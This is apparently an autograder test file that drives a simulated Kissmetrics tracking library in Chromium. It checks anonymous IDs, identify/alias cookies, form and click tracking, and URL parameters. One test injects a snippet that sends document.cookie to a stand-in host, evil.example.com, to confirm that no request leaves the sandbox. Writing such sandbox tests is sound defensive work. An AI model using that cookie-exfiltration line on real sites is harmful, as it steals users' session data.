"""The simulated Kissmetrics library in a real Chromium against the real tracker."""

import asyncio
import re

import pytest

from autograder.checks.visitor import is_anonymous_id

pytestmark = pytest.mark.browser

IDENTIFY_WHEN_KNOWN = "if (window.acme.customer) { _kmq.push(['identify', window.acme.customer.email]); }"


def aliases(site, run):
    return [(r["person"], r["name"]) for r in site.requests(run) if r["kind"] == "a"]


def test_anonymous_id_format_and_persistence_across_pages_and_a_restart(browse):
    async def walk(visitor, run):
        v = await visitor()
        first = await v.visit("shop", "/")
        second = await v.visit("blog", "/why-email")
        await v.reopen()
        third = await v.visit("shop", "/pricing")
        raw = {c["name"]: c for c in await v.context.cookies([v.site.shop_url])}
        return first, second, third, raw

    first, second, third, raw = browse.run(walk)
    assert is_anonymous_id(first.km_ai) and len(first.km_ai) == 28
    assert first.km_ni is None and first.ki == first.km_ai
    assert second.km_ai == third.km_ai == first.km_ai
    assert raw["km_ai"]["domain"] == ".acme.test"
    assert "%3D" in raw["km_ai"]["value"] or "%2B" in raw["km_ai"]["value"] or "%2F" in raw["km_ai"]["value"]
    # The library asks for 5 years (Chromium caps any cookie at 400 days); the session cookie lives 30 minutes.
    now = __import__("time").time()
    assert raw["km_ai"]["expires"] - now > 399 * 24 * 3600
    assert 29 * 60 < raw["km_vs"]["expires"] - now <= 30 * 60 + 5


def test_identify_sends_an_alias_and_sets_cookies_url_encoded(browse):
    async def walk(visitor, run):
        v = await visitor()
        anonymous = await v.visit("shop", "/")
        await v.page.evaluate("() => _kmq.push(['identify', 'ann@example.com'])")
        step = await v.settle("identify", expect_path=None)
        raw = {c["name"]: c["value"] for c in await v.context.cookies([v.site.shop_url])}
        return anonymous, step, raw

    anonymous, step, raw = browse.run(walk)
    assert step.km_ai == step.km_ni == step.ki == "ann@example.com"
    assert raw["km_ai"] == "ann%40example.com"
    assert aliases(browse.site, None)[-1] == (anonymous.km_ai, "ann@example.com")


def test_identify_while_named_replaces_the_name_without_alias(browse):
    async def walk(visitor, run):
        v = await visitor()
        await v.visit("shop", "/")
        await v.page.evaluate("() => _kmq.push(['identify', 'first@example.com'])")
        await v.settle("first", expect_path=None)
        await v.page.evaluate("() => _kmq.push(['identify', 'second@example.com'])")
        return await v.settle("second", expect_path=None)

    step = browse.run(walk)
    assert step.km_ai == "second@example.com"
    names = [b for _, b in aliases(browse.site, None)]
    assert "first@example.com" in names and "second@example.com" not in names


# The real library's empty names: undefined, null, every falsy value and a few spellings of "null".
EMPTY_NAMES = ["undefined", "null", "0", "false", "NaN", "''", "'null'", "'nil'", "\"'null'\"", "\"'nil'\"",
               "'\"null\"'", "'\"nil\"'", "\"''\"", "'\"\"'"]


@pytest.mark.parametrize("call", ["['clearIdentity']", "['identify']"] + [f"['identify', {n}]" for n in EMPTY_NAMES])
def test_clear_identity_forgets_the_name_and_a_new_anonymous_id_follows(browse, call):
    async def walk(visitor, run):
        v = await visitor()
        await v.visit("shop", "/")
        await v.page.evaluate("() => _kmq.push(['identify', 'gone@example.com'])")
        await v.settle("identify", expect_path=None)
        await v.page.evaluate(f"() => _kmq.push({call})")
        cleared = await v.cookies()
        after = await v.visit("shop", "/pricing")
        return cleared, after

    cleared, after = browse.run(walk)
    assert "km_ai" not in cleared and "km_ni" not in cleared
    assert is_anonymous_id(after.km_ai) and after.km_ni is None


def test_clear_identity_does_nothing_while_anonymous(browse):
    async def walk(visitor, run):
        v = await visitor()
        before = await v.visit("shop", "/")
        await v.page.evaluate("() => _kmq.push(['clearIdentity'])")
        return before, await v.visit("shop", "/pricing")

    before, after = browse.run(walk)
    assert before.km_ai == after.km_ai


def test_blog_host_sees_the_shop_cookies(browse):
    async def walk(visitor, run):
        v = await visitor()
        await v.sign_up(__import__("autograder.checks.visitor", fromlist=["Customer"]).Customer(
            "Bea Blog", "bea@example.com", "password1"))
        return await v.visit("blog", "/")

    step = browse.run(walk, snippet=IDENTIFY_WHEN_KNOWN)
    assert step.url.startswith("blog.acme.test")
    assert step.km_ai == step.ki == "bea@example.com"


def test_unsent_requests_are_kept_in_km_uq_and_resent_on_the_next_page(browse):
    async def walk(visitor, run):
        v = await visitor()
        held = []

        async def hold(route):  # the page is left before the tracker answers
            held.append(route.request.url)

        await v.context.route(re.compile(r"/e\?"), hold)
        # Beacons the library started before load keep the page loading while they are held.
        await v.page.goto(v.url("shop", "/pricing"), wait_until="domcontentloaded")
        await v.page.wait_for_function("() => /km_uq=/.test(document.cookie)")
        queued = (await v.cookies())["km_uq"]
        await v.context.unroute(re.compile(r"/e\?"))
        await v.page.goto("about:blank")
        await v.visit("shop", "/")
        return held, queued, (await v.cookies()).get("km_uq")

    held, queued, after = browse.run(walk)
    assert held, "the beacon should have been held"
    assert re.match(r"^\d+ /e\?_k=", queued.split("|")[0])
    names = [r["name"] for r in browse.site.requests(None)]
    assert "Visited Site" in names and "Viewed pricing page" in names
    assert after is None


# The shop's forms carry neither id nor class: a page script gives them one, as a shop's markup would.
MARK_THE_FORM = ("document.addEventListener('DOMContentLoaded', function () {"
                 " var f = document.querySelector('form'); if (f) { f.id = 'account-form'; f.className = 'km-form'; }"
                 " });")


def test_track_submit_identifies_an_anonymous_visitor_by_the_email_field(browse):
    snippet = MARK_THE_FORM + "_kmq.push(['trackSubmit', '.km-form', 'Submitted form']);"

    async def walk(visitor, run):
        v = await visitor()
        await v.visit("shop", "/")
        from autograder.checks.visitor import Customer

        return await v.sign_up(Customer("Tia Track", "Tia@Example.com", "password1"))

    step = browse.run(walk, snippet=snippet)
    assert step.km_ai == "Tia@Example.com"
    run_requests = browse.site.requests(None)
    submitted = [r for r in run_requests if r["name"] == "Submitted form"]
    assert submitted and submitted[-1]["props"]["email"] == "Tia@Example.com"
    assert "password" not in submitted[-1]["props"]


def test_a_form_is_submitted_once_the_library_has_started_as_a_person_would(browse):
    """A person takes seconds to type: the checks submit a form only after the page's library
    has started (bounded), even when it loads slowly, so its submit handlers see the submit."""
    snippet = MARK_THE_FORM + "_kmq.push(['trackSubmit', 'account-form', 'Submitted form']);"

    async def walk(visitor, run):
        v = await visitor()

        async def slow_library(route):
            await asyncio.sleep(0.4)
            await route.continue_()

        await v.context.route(re.compile(r"/i\.js$|\.2\.js$"), slow_library)
        from autograder.checks.visitor import Customer

        return await v.sign_up(Customer("Sam Slow", "Sam@Example.com", "password1"))

    step = browse.run(walk, snippet=snippet)
    assert step.km_ai == "Sam@Example.com"
    assert any(r["name"] == "Submitted form" for r in browse.site.requests(None))


def test_events_after_alias_belong_to_the_person(browse):
    async def walk(visitor, run):
        v = await visitor()
        anonymous = await v.visit("shop", "/")
        await v.page.evaluate("() => _kmq.push(['identify', 'eve@example.com'])")
        await v.settle("identify", expect_path=None)
        await v.visit("shop", "/pricing")
        return anonymous.km_ai, browse.site.people(run)

    anonymous_id, people = browse.run(walk)
    person = next(p for p in people if "eve@example.com" in p.ids)
    assert anonymous_id in person.ids
    assert {e["name"] for e in person.events} >= {"Visited Site", "Viewed home page", "Viewed pricing page"}


def test_queue_runs_functions_ignores_unknown_commands_and_is_replaced(browse):
    snippet = ("window.order = []; _kmq.push(function () { window.order.push(typeof KM.i()); });"
               "_kmq.push(['noSuchCommand', 1]);")

    async def walk(visitor, run):
        v = await visitor()
        await v.visit("shop", "/")
        return await v.page.evaluate("() => [window.order, Array.isArray(_kmq), typeof _kmq.push]")

    order, still_array, push = browse.run(walk, snippet=snippet)
    assert order == ["string"] and still_array is False and push == "function"


def test_library_loads_after_inline_scripts(browse):
    """Calling KM directly from the snippet fails: the library is not there yet."""
    async def walk(visitor, run):
        v = await visitor()
        await v.visit("shop", "/")
        return v.page_errors

    errors = browse.run(walk, snippet="KM.identify('too-early@example.com');")
    assert errors and "KM is not defined" in errors[0]["message"]


def test_visited_site_once_per_session(browse):
    async def walk(visitor, run):
        v = await visitor()
        for path in ("/", "/pricing", "/"):
            await v.visit("shop", path)
        return [r["name"] for r in browse.site.requests(run)]

    names = browse.run(walk)
    assert names.count("Visited Site") == 1


def test_snippet_errors_leave_pages_working(browse):
    async def walk(visitor, run):
        v = await visitor()
        step = await v.visit("shop", "/pricing")
        return step, v.page_errors, await v.page.title()

    step, errors, title = browse.run(walk, snippet="this is not javascript(")
    assert "Pricing" in title and is_anonymous_id(step.km_ai)
    assert errors and "SyntaxError" in errors[0]["message"] or "Unexpected" in errors[0]["message"]


def test_no_request_leaves_for_any_other_host(browse):
    snippet = """
      new Image().src = 'http://evil.example.com/steal?c=' + document.cookie;
      fetch('http://127.0.0.1:9/').catch(function () {});
      fetch('http://www.acme.test:9/x').catch(function () {});
    """

    async def walk(visitor, run):
        v = await visitor()
        seen = []
        v.context.on("requestfinished", lambda request: seen.append(request.url))
        await v.visit("shop", "/")
        await v.visit("blog", "/")
        await asyncio.sleep(0.2)
        return seen

    seen = browse.run(walk, snippet=snippet)
    port = browse.site.port
    hosts = {re.match(r"https?://([^/]+)/", url).group(1) for url in seen}
    assert hosts <= {f"www.acme.test:{port}", f"blog.acme.test:{port}", f"trk.kmtrack.test:{port}"}, hosts


# -- trackSubmit / trackClick: an element ID (no '#'), a '.class' or an Element, nothing else

async def wait_for_event(site, run, name, *, timeout_s=2.0):
    """The tracker's events called ``name`` (bounded wait: none may ever come)."""
    deadline = asyncio.get_running_loop().time() + timeout_s
    while True:
        found = [r for r in site.requests(run) if r["kind"] == "e" and r["name"] == name]
        if found or asyncio.get_running_loop().time() > deadline:
            return found
        await asyncio.sleep(0.05)


@pytest.mark.parametrize("selector, tracked", [
    ("'account-form'", True),
    ("'.km-form'", True),
    ("'form'", False),  # a tag name is no ID: the real library finds nothing
    ("'#account-form'", False),  # nor is a CSS selector
    ("'form.km-form'", False),
])
def test_track_submit_takes_an_id_or_a_class_and_nothing_else(browse, selector, tracked):
    snippet = MARK_THE_FORM + f"_kmq.push(['trackSubmit', {selector}, 'Submitted form']);"

    async def walk(visitor, run):
        v = await visitor()
        from autograder.checks.visitor import Customer

        await v.sign_up(Customer("Sue Select", "Sue@Example.com", "password1"))
        return [r for r in browse.site.requests(run) if r["name"] == "Submitted form"]

    submitted = browse.run(walk, snippet=snippet)
    assert bool(submitted) is tracked, submitted


def test_track_submit_takes_an_element(browse):
    snippet = ("document.addEventListener('DOMContentLoaded', function () {"
               " _kmq.push(['trackSubmit', document.querySelector('form'), 'Submitted form', {via: 'element'}]); });")

    async def walk(visitor, run):
        v = await visitor()
        from autograder.checks.visitor import Customer

        step = await v.sign_up(Customer("Eli Element", "Eli@Example.com", "password1"))
        return step, [r for r in browse.site.requests(run) if r["name"] == "Submitted form"]

    step, submitted = browse.run(walk, snippet=snippet)
    assert len(submitted) == 1 and submitted[0]["props"] == {"name": "Eli Element", "email": "Eli@Example.com",
                                                             "via": "element"}
    assert step.km_ai == "Eli@Example.com"


# A newsletter form of the kind the real library identifies people from; it posts (GET) to /pricing.
NEWSLETTER = """(html) => {
  document.body.insertAdjacentHTML('beforeend',
    '<form id="newsletter" action="/pricing" method="get">' + html + '<button type="submit">Go</button></form>');
}"""


@pytest.mark.parametrize("field, identifies", [
    ('<input name="user_login" value="lou">', True),
    ('<input name="user_id" value="lou">', True),
    ('<input name="e_mail" value="lou">', True),
    ('<input name="User-Name" value="lou">', True),
    ('<input name="user" value="lou">', False),  # "user" is not in the real library's list
    ('<input id="email" value="lou">', False),  # no name: the field is not sent at all
])
def test_track_submit_identifies_by_a_named_login_field_only(browse, field, identifies):
    async def walk(visitor, run):
        v = await visitor()
        anonymous = await v.visit("shop", "/")
        await v.page.evaluate(NEWSLETTER, field + '<input name="topic" value="news">')
        await v.page.evaluate("() => _kmq.push(['trackSubmit', 'newsletter', 'Subscribed'])")
        async with v.page.expect_navigation(wait_until="domcontentloaded"):
            await v.page.click("#newsletter button")  # a real mouse click on the submit button
        step = await v.settle("subscribed", expect_path="/pricing")
        return anonymous, step, await wait_for_event(browse.site, run, "Subscribed")

    anonymous, step, events = browse.run(walk)
    assert len(events) == 1
    props = events[0]["props"]
    assert props["topic"] == "news" and "email" not in props
    if identifies:
        assert step.km_ai == step.km_ni == "lou"
        assert (anonymous.km_ai, "lou") in aliases(browse.site, None)
    else:
        assert step.km_ai == anonymous.km_ai and step.km_ni is None


def test_track_submit_does_not_rename_a_named_visitor(browse):
    async def walk(visitor, run):
        v = await visitor()
        await v.visit("shop", "/")
        await v.page.evaluate("() => _kmq.push(['identify', 'known@example.com'])")
        await v.page.evaluate(NEWSLETTER, '<input name="email" value="other@example.com">')
        await v.page.evaluate("() => _kmq.push(['trackSubmit', 'newsletter', 'Subscribed'])")
        async with v.page.expect_navigation(wait_until="domcontentloaded"):
            await v.page.click("#newsletter button")
        return await v.settle("subscribed", expect_path="/pricing")

    step = browse.run(walk)
    assert step.km_ai == "known@example.com"


# A call-to-action box with a label inside it; people press on the label.
CTA = """() => document.body.insertAdjacentHTML('afterbegin',
  '<div id="cta" class="cta big" style="padding:20px"><span id="cta-label">Start your trial</span></div>')"""


def test_track_click_records_on_the_press_of_a_child_of_the_tracked_element(browse):
    async def walk(visitor, run):
        v = await visitor()
        await v.visit("shop", "/")
        await v.page.evaluate(CTA)
        # Counted in the page: the same event twice within a second is one URL (one image
        # request), and one event at the tracker.
        await v.page.evaluate("() => { window.recorded = []; const record = KM.record;"
                              " KM.record = function (n) { recorded.push(n); return record.apply(KM, arguments); }; }")
        await v.page.evaluate("() => { _kmq.push(['trackClick', '.cta', 'Clicked CTA', {where: 'home'}]);"
                              " _kmq.push(['trackClick', 'span', 'Clicked a span']); }")
        box = await v.page.locator("#cta-label").bounding_box()
        await v.page.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
        await v.page.mouse.down()  # the real library binds mousedown: the press alone records
        pressed = await wait_for_event(browse.site, run, "Clicked CTA")
        await v.page.mouse.up()
        await v.page.click("#cta-label")  # a whole real click: one more event, not two
        return pressed, await v.page.evaluate("() => window.recorded")

    pressed, recorded = browse.run(walk)
    assert len(pressed) == 1 and pressed[0]["props"] == {"where": "home"}
    assert recorded == ["Clicked CTA", "Clicked CTA"]  # and none for 'span': a tag name finds nothing


def test_track_click_takes_an_id_or_an_element(browse):
    async def walk(visitor, run):
        v = await visitor()
        await v.visit("shop", "/")
        await v.page.evaluate(CTA)
        await v.page.evaluate("() => { _kmq.push(['trackClick', 'cta', 'By id']);"
                              " _kmq.push(['trackClick', document.getElementById('cta'), 'By element']);"
                              " _kmq.push(['trackClick', '#cta', 'By selector']); }")
        await v.page.click("#cta-label")
        await wait_for_event(browse.site, run, "By element")
        await wait_for_event(browse.site, run, "never", timeout_s=0.2)
        return [r["name"] for r in browse.site.requests(run)]

    names = browse.run(walk)
    assert names.count("By id") == 1 and names.count("By element") == 1 and "By selector" not in names


def test_alias_ignores_the_empty_names(browse):
    """An alias is irreversible: with an empty name it would join everyone who sent one."""
    calls = ", ".join(f"['alias', KM.i(), {n}], ['alias', {n}, KM.i()]" for n in EMPTY_NAMES)

    async def walk(visitor, run):
        v = await visitor()
        await v.visit("shop", "/")
        await v.page.evaluate(f"() => _kmq.push({calls}, ['alias', KM.i(), 'real@example.com'])")
        await v.settle("aliases", expect_path=None)
        return aliases(browse.site, run)

    sent = browse.run(walk)
    assert [b for _, b in sent] == ["real@example.com"]


# -- ?kmi= and ?kme= in the page's URL

def test_kmi_in_the_url_identifies_and_aliases_an_anonymous_visitor(browse):
    async def walk(visitor, run):
        v = await visitor()
        anonymous = await v.visit("shop", "/")
        step = await v.visit("shop", "/pricing?kme=Opened+Email&kmi=kim%40example.com")
        return anonymous, step, await wait_for_event(browse.site, run, "Opened Email")

    anonymous, step, opened = browse.run(walk)
    assert step.km_ai == step.km_ni == "kim@example.com"
    assert (anonymous.km_ai, "kim@example.com") in aliases(browse.site, None)
    assert [e["person"] for e in opened] == ["kim@example.com"]  # the link's event goes to the person it names


@pytest.mark.parametrize("query", ["?kmi=", "?kmi=null"])
def test_an_empty_kmi_is_no_log_out_link(browse, query):
    async def walk(visitor, run):
        v = await visitor()
        await v.visit("shop", "/")
        await v.page.evaluate("() => _kmq.push(['identify', 'stay@example.com'])")
        await v.settle("identify", expect_path=None)
        return await v.visit("shop", "/pricing" + query)

    assert browse.run(walk).km_ai == "stay@example.com"


def test_kmi_in_the_url_renames_a_named_visitor_without_alias(browse):
    async def walk(visitor, run):
        v = await visitor()
        await v.visit("shop", "/")
        await v.page.evaluate("() => _kmq.push(['identify', 'first@example.com'])")
        await v.settle("identify", expect_path=None)
        return await v.visit("shop", "/pricing?utm_source=mail&kmi=second%40example.com"), aliases(browse.site, run)

    step, sent = browse.run(walk)
    assert step.km_ai == "second@example.com"
    assert [b for _, b in sent] == ["first@example.com"]


def test_kme_in_the_url_records_an_event(browse):
    async def walk(visitor, run):
        v = await visitor()
        step = await v.visit("shop", "/?kme=Clicked+Newsletter%20Link")
        return step, await wait_for_event(browse.site, run, "Clicked Newsletter Link")

    step, events = browse.run(walk)
    assert len(events) == 1 and events[0]["person"] == step.km_ai


def test_a_page_loads_after_its_library_as_a_real_shop_page_does(browse):
    """The load event comes after the library has started (the chat widget waits for the page's view), on every
    page, so a load handler that calls KM directly works every time, not by chance."""
    snippet = ("window.addEventListener('load', function () {\n"
               "  KM.record('loaded with KM', {view: document.body.getAttribute('data-view')});\n});")

    async def walk(visitor, run):
        v = await visitor()
        for path in ("/", "/pricing", "/login", "/signup", "/", "/pricing"):
            await v.visit("shop", path)
        await v.visit("blog", "/why-email")
        return v.page_errors, [r["name"] for r in browse.site.requests(run) if r["kind"] == "e"]

    errors, names = browse.run(walk, snippet=snippet)
    assert errors == []
    assert names.count("loaded with KM") == 7
